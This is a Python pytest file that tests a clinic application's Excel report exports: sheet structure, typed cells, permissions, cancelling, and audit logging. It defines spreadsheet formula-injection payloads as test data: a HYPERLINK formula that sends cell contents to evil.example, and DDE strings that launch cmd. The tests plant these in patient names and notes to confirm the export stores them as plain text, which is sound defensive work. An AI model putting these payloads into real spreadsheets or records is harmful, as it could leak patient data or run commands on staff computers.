"""Every Excel report written for a small clinic and read back: sheets, frozen header, autofilter, widths,
real dates and numbers, no formulas, the parameters sheet; refusal, cancelling, and formula-like text."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select
from sqlalchemy.orm import Session

from b12desk.data.models import AuditEvent, Patient
from b12desk.domain.stock import WasteReason
from b12desk.exports import workbooks
from b12desk.exports.xlsx import ColumnType, ExportFailed
from b12desk.services import administrations as adm
from b12desk.services import inventory as inv
from b12desk.services.common import PermissionDenied, ValidationFailed
from b12desk.services.reports import ReportKind, ReportParameters
from tests.clinic_time import clinic_today
from tests.conftest import Staffing
from tests.services.dose_world import CLOCK, NOW, TODAY, World, make_world

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_GIVEN = "+cmd|' /C calc'!A0"
EVIL_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
PERIOD = ReportParameters(TODAY - timedelta(days=60), TODAY)
# Stock movements are stamped by the system clock, not the fixed clinic clock: a period that holds both.
STOCK_PERIOD = ReportParameters(
    min(TODAY, clinic_today()) - timedelta(days=60), max(TODAY, clinic_today()) + timedelta(days=1)
)


@pytest.fixture
def world(session: Session, staff: Staffing) -> World:
    w = make_world(session, staff)
    adm.record_dose(session, staff.nurse, w.request(note=EVIL_NOTE), clock=CLOCK)
    # As a CSV import of an old roster may have left them (the patient form refuses such names today).
    patient = session.get(Patient, w.patient_id)
    assert patient is not None
    patient.family_name, patient.given_name = EVIL_NAME, EVIL_GIVEN
    session.flush()
    inv.waste_containers(
        session,
        staff.nurse,
        lot_id=w.ampoule_lot_id,
        quantity=2,
        reason=WasteReason.OTHER,
        note="-2+3 dropped on =floor",
        clock=CLOCK,
    )
    inv.discard_vial(session, staff.nurse, vial_id=w.vial_id, reason=WasteReason.CONTAMINATED, clock=CLOCK)
    return w


def _data_sheets(path: Path) -> Iterator[Worksheet]:
    wb = load_workbook(path)
    assert wb.sheetnames[0] == workbooks.PARAMETERS_SHEET
    for name in wb.sheetnames:
        yield wb[name]


EXPECTED_SHEETS = {
    ReportKind.ADMINISTRATIONS: ["Parameters", "Administrations"],
    ReportKind.DUE: ["Parameters", "Due today", "Overdue", "Lapsed"],
    ReportKind.INVENTORY: ["Parameters", "Lots"],
    ReportKind.WASTAGE: ["Parameters", "By reason", "Wastage"],
    ReportKind.USAGE: ["Parameters", "Usage"],
    ReportKind.NURSE_ACTIVITY: ["Parameters", "Activity"],
}

COLUMNS = {
    "Administrations": workbooks.ADMINISTRATION_COLUMNS,
    "Due today": workbooks.DUE_COLUMNS,
    "Overdue": workbooks.DUE_COLUMNS,
    "Lapsed": workbooks.DUE_COLUMNS,
    "Lots": workbooks.INVENTORY_COLUMNS,
    "By reason": workbooks.WASTE_TOTAL_COLUMNS,
    "Wastage": workbooks.WASTE_COLUMNS,
    "Usage": workbooks.USAGE_COLUMNS,
    "Activity": workbooks.NURSE_COLUMNS,
}

PYTHON_TYPES: dict[ColumnType, tuple[type, ...]] = {
    ColumnType.TEXT: (str,),
    ColumnType.INT: (int,),
    ColumnType.NUMBER: (int, float),
    ColumnType.DATE: (datetime,),  # openpyxl reads every Excel date as a datetime
    ColumnType.DATETIME: (datetime,),
    ColumnType.BOOL: (bool,),
    ColumnType.MIXED: (str, int, float, datetime),
}


def _check_sheet(ws: Worksheet) -> list[tuple[object, ...]]:
    """The structure every sheet shares; returns its data rows."""
    rows = list(ws.iter_rows())
    assert rows, f"{ws.title} has no header"
    header = [c.value for c in rows[0]]
    assert all(c.font.b for c in rows[0]), "the header is bold"
    assert ws.freeze_panes == "A2"
    last = get_column_letter(len(header))
    assert ws.auto_filter.ref == f"A1:{last}{len(rows)}"
    for n in range(1, len(header) + 1):
        width = ws.column_dimensions[get_column_letter(n)].width
        assert width is not None and 8 <= width <= 60
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
    if ws.title != workbooks.PARAMETERS_SHEET:
        columns = COLUMNS[ws.title]
        assert header == [c.header for c in columns]
        for row in rows[1:]:
            for column, cell in zip(columns, row, strict=True):
                if cell.value is None:
                    continue
                assert isinstance(cell.value, PYTHON_TYPES[column.type]), (
                    f"{ws.title}!{cell.coordinate} ({column.header}): {cell.value!r}"
                )
                if column.type in (ColumnType.DATE, ColumnType.DATETIME):
                    assert cell.is_date
                if column.type in (ColumnType.INT, ColumnType.NUMBER):
                    assert cell.data_type == "n"
    return [tuple(c.value for c in r) for r in rows[1:]]


def _parameters(path: Path) -> dict[str, object]:
    ws = load_workbook(path)[workbooks.PARAMETERS_SHEET]
    return {r[0]: r[1] for r in ws.iter_rows(min_row=2, values_only=True)}


@pytest.mark.parametrize("kind", list(ReportKind))
def test_each_workbook_reads_back_as_a_real_workbook(
    kind: ReportKind, world: World, session: Session, staff: Staffing, tmp_path: Path
) -> None:
    path = tmp_path / f"{kind.value}.xlsx"
    period = STOCK_PERIOD if kind in (ReportKind.WASTAGE, ReportKind.NURSE_ACTIVITY) else PERIOD
    result = workbooks.export_workbook(kind, session, staff.manager, period, path, clock=CLOCK)
    assert result.path == path and not result.cancelled
    assert load_workbook(path).sheetnames == EXPECTED_SHEETS[kind]
    data_rows = sum(len(_check_sheet(ws)) for ws in _data_sheets(path) if ws.title != "Parameters")
    assert data_rows == result.rows
    params = _parameters(path)
    assert params["Exported by"] == "Manager (manager, manager)"
    assert params["Exported at (clinic time)"] == NOW.replace(tzinfo=None)
    assert params["Clinic time zone"] == "Europe/London"
    assert params["Rows"] == result.rows
    if kind in (ReportKind.DUE, ReportKind.INVENTORY):
        assert params["As of (clinic day)"] == datetime(2026, 12, 1)
    else:
        assert params["From (clinic day)"] == datetime.combine(period.start, datetime.min.time())
        assert params["To (clinic day, inclusive)"] == datetime.combine(period.end, datetime.min.time())
    assert any(str(k).startswith("Total: ") for k in params)
    assert not list(tmp_path.glob("*.part")), "no temporary file is left behind"
    event = session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc()).limit(1)).one()
    assert (event.action, event.entity, event.entity_id) == ("export", "report", kind.value)
    assert f'"rows":{result.rows}' in event.new_values.replace(" ", "")


def test_contents_of_the_reports(world: World, session: Session, staff: Staffing, tmp_path: Path) -> None:
    def rows(kind: ReportKind, sheet: str) -> list[tuple[object, ...]]:
        path = tmp_path / f"{kind.value}.xlsx"
        period = STOCK_PERIOD if kind == ReportKind.WASTAGE else PERIOD
        workbooks.export_workbook(kind, session, staff.admin, period, path, clock=CLOCK)
        return [r for r in load_workbook(path)[sheet].iter_rows(min_row=2, values_only=True)]

    (dose,) = rows(ReportKind.ADMINISTRATIONS, "Administrations")
    assert dose[0] == datetime(2026, 12, 1, 10, 0)  # clinic wall-clock time, a real datetime
    assert dose[1:5] == ("P1", f"{EVIL_NAME.upper()}, {EVIL_GIVEN}", 1000, 1)
    assert dose[7] == "given" and dose[12] == "current" and dose[15] == EVIL_NOTE
    lots = rows(ReportKind.INVENTORY, "Lots")
    by_lot = {r[1]: r for r in lots}
    assert by_lot["H1"][2] == datetime(2027, 6, 30) and by_lot["H1"][5] == 7  # 10 - 1 dose - 2 wasted
    assert by_lot["H1"][4] == "Later than 90 days"
    by_reason = {r[0]: r for r in rows(ReportKind.WASTAGE, "By reason")}
    assert by_reason["Other"][1:3] == (1, 2)
    assert by_reason["Contaminated or suspected"][1] == 1 and by_reason["Contaminated or suspected"][3] == 30
    wasted = rows(ReportKind.WASTAGE, "Wastage")
    assert {r[8] for r in wasted} >= {"-2+3 dropped on =floor"}
    (usage,) = rows(ReportKind.USAGE, "Usage")
    assert usage[0] == datetime(2026, 12, 1) and usage[2] == 1 and usage[6] == 1000
    activity = {r[1]: r for r in rows(ReportKind.NURSE_ACTIVITY, "Activity")}
    assert activity["nurse"][4] == 1 and activity["nurse"][8] == datetime(2026, 12, 1, 10, 0)


def test_roster_text_that_looks_like_a_formula_stays_text(
    world: World, session: Session, staff: Staffing, tmp_path: Path
) -> None:
    later = ReportParameters(TODAY, TODAY + timedelta(days=3))  # the plan's second dose is due then
    workbooks.due_workbook(session, staff.manager, later, tmp_path / "due.xlsx", clock=CLOCK)
    workbooks.administrations_workbook(session, staff.manager, PERIOD, tmp_path / "adm.xlsx", clock=CLOCK)
    cells = [
        c
        for name in ("due.xlsx", "adm.xlsx")
        for ws in load_workbook(tmp_path / name).worksheets
        for row in ws.iter_rows()
        for c in row
    ]
    assert all(c.data_type != "f" for c in cells)
    for text in (EVIL_NAME, EVIL_GIVEN, EVIL_NOTE, f"{EVIL_NAME.upper()}, {EVIL_GIVEN}"):
        found = [c for c in cells if c.value == text]
        assert found, f"{text!r} is not in the workbooks as written"
        assert all(c.data_type == "s" and c.quotePrefix for c in found)


def test_a_nurse_is_refused_and_nothing_is_written(world: World, session: Session, tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    for kind in ReportKind:
        with pytest.raises(PermissionDenied, match="export reports"):
            workbooks.export_workbook(kind, session, world.staff.nurse, PERIOD, path, clock=CLOCK)
    assert list(tmp_path.iterdir()) == []
    assert session.scalar(select(AuditEvent).where(AuditEvent.action == "export")) is None


def test_cancelling_writes_nothing(world: World, session: Session, staff: Staffing, tmp_path: Path) -> None:
    seen: list[tuple[int, int | None]] = []

    def stop(done: int, total: int | None) -> bool:
        seen.append((done, total))
        return False

    path = tmp_path / "out.xlsx"
    result = workbooks.administrations_workbook(
        session, staff.manager, PERIOD, path, progress=stop, clock=CLOCK
    )
    assert result.cancelled and result.rows == 0
    assert seen == [(0, 1)]
    assert list(tmp_path.iterdir()) == []
    assert session.scalar(select(AuditEvent).where(AuditEvent.action == "export")) is None


def test_progress_ends_with_all_rows(world: World, session: Session, staff: Staffing, tmp_path: Path) -> None:
    seen: list[tuple[int, int | None]] = []
    workbooks.wastage_workbook(
        session,
        staff.manager,
        STOCK_PERIOD,
        tmp_path / "w.xlsx",
        progress=lambda d, t: seen.append((d, t)) is None,
        clock=CLOCK,
    )
    assert seen[-1] == (4, 4)  # two reasons, two wastings


def test_an_unwritable_place_or_a_reversed_period_is_said_plainly(
    session: Session, staff: Staffing, tmp_path: Path
) -> None:
    with pytest.raises(ExportFailed, match="does not exist"):
        workbooks.usage_workbook(session, staff.manager, PERIOD, tmp_path / "nope" / "x.xlsx", clock=CLOCK)
    with pytest.raises(ExportFailed, match="is a folder"):
        workbooks.usage_workbook(session, staff.manager, PERIOD, tmp_path, clock=CLOCK)
    reversed_period = ReportParameters(date(2026, 12, 2), date(2026, 12, 1))
    with pytest.raises(ValidationFailed, match="swap the dates"):
        workbooks.usage_workbook(session, staff.manager, reversed_period, tmp_path / "x.xlsx", clock=CLOCK)
    assert list(tmp_path.iterdir()) == []


def test_usage_months_follow_the_clinic_calendar(session: Session, staff: Staffing, tmp_path: Path) -> None:
    w = make_world(session, staff)
    # 00:30 on 1 December in London is still 30 November in UTC: it belongs to December.
    at = datetime(2026, 12, 1, 0, 30, tzinfo=CLOCK.zone)
    adm.record_dose(session, staff.nurse, w.request(given_at=at), clock=CLOCK)
    path = tmp_path / "u.xlsx"
    workbooks.usage_workbook(
        session, staff.manager, ReportParameters(date(2026, 11, 1), TODAY), path, clock=CLOCK
    )
    (row,) = load_workbook(path)["Usage"].iter_rows(min_row=2, values_only=True)
    assert row[0] == datetime(2026, 12, 1) and row[2] == 1
    assert Decimal(str(row[6])) == 1000


def test_the_log_columns_read_by_position_are_the_log_statements() -> None:
    from b12desk.services.reports import LOG_COLUMNS

    source = {
        "patient_id": "patients.id",
        "nurse": "staff.full_name",
        "correction_reason": "administrations.amendment_reason",
        "mrn": "patients.mrn",
        "family_name": "patients.family_name",
        "given_name": "patients.given_name",
        "lot_number": "lots.lot_number",
    }
    selected = [f"{c.table.name}.{c.name}" for c in adm._log_select().selected_columns]
    assert selected == [source.get(name, f"administrations.{name}") for name in LOG_COLUMNS]
